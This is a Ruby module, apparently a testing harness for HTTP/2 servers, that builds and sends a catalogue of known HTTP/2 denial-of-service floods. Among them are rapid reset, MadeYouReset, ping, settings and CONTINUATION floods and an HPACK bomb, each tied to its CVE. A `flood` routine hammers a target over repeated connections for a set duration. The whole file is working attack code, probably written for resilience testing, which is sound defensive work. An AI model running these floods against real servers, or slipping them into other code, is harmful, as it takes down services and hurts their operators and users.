# frozen_string_literal: true

require_relative "../../spec/support/hpack"
require_relative "../../spec/support/http2_wire"

# The floods of HTTP/2: what is sent again and again on one connection. Each is a beginning and a piece that is repeated; a piece with
# stream numbers is made anew for each.
module Attacks
  module Floods
    module_function

    def frame(...) = HTTP2Wire.frame(...)

    def request(stream, path: "/", flags: 0x5, more: "".b)
      fields = { ":method" => "GET", ":scheme" => "http", ":path" => path, ":authority" => "a" }
      frame(:headers, stream:, flags:, payload: HPACK.encode(fields) + more)
    end

    def reset(stream) = frame(:rst_stream, stream:, payload: [8].pack("N"))

    # For each stream of a piece.
    def streams(from, count) = (0...count).map { |number| yield from + (2 * number) }.join

    BEGINNING = HTTP2Wire::PREFACE + HTTP2Wire.frame(:settings)

    # Name => [what comes first, what comes then (with the next stream's number) and how many streams it takes].
    ALL = {
      "rapid reset (CVE-2023-44487)" => ["".b, ->(stream) { streams(stream, 100) { |it| request(it) + reset(it) } }, 100],
      "MadeYouReset (CVE-2025-8671)" => ["".b, ->(stream) { streams(stream, 100) { |it| request(it) + frame(:window_update, stream: it, payload: [0].pack("N")) } }, 100],
      "reset flood (CVE-2019-9514)" => ["".b, ->(stream) { streams(stream, 100) { |it| frame(:headers, stream: it, flags: 0x5, payload: "\x82".b) } }, 100],
      "ping flood (CVE-2019-9512)" => ["".b, ->(_) { frame(:ping, payload: "\0" * 8) * 500 }, 0],
      "settings flood (CVE-2019-9515)" => ["".b, ->(_) { frame(:settings, payload: "\0\4\0\0\0\1") * 500 }, 0],
      "resource loop (CVE-2019-9513)" => ["".b, ->(_) { frame(:priority, stream: 1, payload: HTTP2Wire.priority(depends_on: 3)) * 500 }, 0],
      "window updates" => ["".b, ->(_) { frame(:window_update, payload: [1].pack("N")) * 500 }, 0],
      "empty DATA (CVE-2019-9518)" => [request(1, path: "/echo", flags: 0x4), ->(_) { frame(:data, stream: 1) * 500 }, 0],
      "DATA of one byte" => [request(1, path: "/echo", flags: 0x4), ->(_) { frame(:data, stream: 1, payload: "x") * 500 }, 0],
      "CONTINUATION, small (CVE-2024-27316)" => [request(1, flags: 0x1), ->(_) { frame(:continuation, stream: 1, payload: HPACK.literal("x", "y")) * 500 }, 0],
      "CONTINUATION, large" => [request(1, flags: 0x1), ->(_) { frame(:continuation, stream: 1, payload: HPACK.literal("x", "y" * 16_000)) }, 0],
      "HPACK bomb (CVE-2016-6581)" => ["".b, ->(stream) { request(stream, more: HPACK.literal("x", "y" * 4000, indexing: :with) + (HPACK.indexed(62) * 12_000)) }, 1],
      "HPACK bomb below the limit" => ["".b, ->(stream) { request(stream, more: HPACK.literal("x", "y" * 4000, indexing: :with) + (HPACK.indexed(62) * 60)) }, 1],
      "unknown frames" => ["".b, ->(_) { frame(0x42, payload: "x") * 500 }, 0]
    }.freeze

    # Floods the target for +seconds+ from one connection after another; bytes sent, and connections that it took.
    def flood(target, name, seconds)
      first, piece, streams = ALL.fetch(name)
      until_at = Rig.now + seconds
      bytes = connections = 0
      while Rig.now < until_at
        connections += 1
        stream = 3
        socket = target.connect("h2")
        begin
          bytes += socket.write(BEGINNING + first)
          while Rig.now < until_at
            bytes += send_all(socket, piece.call(stream), until_at)
            stream += 2 * streams
          end
        rescue SystemCallError, IOError, OpenSSL::SSL::SSLError
          nil # the server has had enough
        ensure
          socket.close
        end
      end
      [bytes, connections]
    end

    # Sends, and forgets what comes back, so that no full buffer holds the flood up.
    def send_all(socket, bytes, until_at)
      sent = 0
      while sent < bytes.bytesize && Rig.now < until_at
        case written = socket.write_nonblock(bytes.byteslice(sent..), exception: false)
        when :wait_writable, :wait_readable then IO.select([socket], [socket], nil, 0.1)
        else sent += written
        end
        came = socket.read_nonblock(1 << 20, exception: false)
        raise EOFError if came.nil?
      end
      sent
    end
  end
end
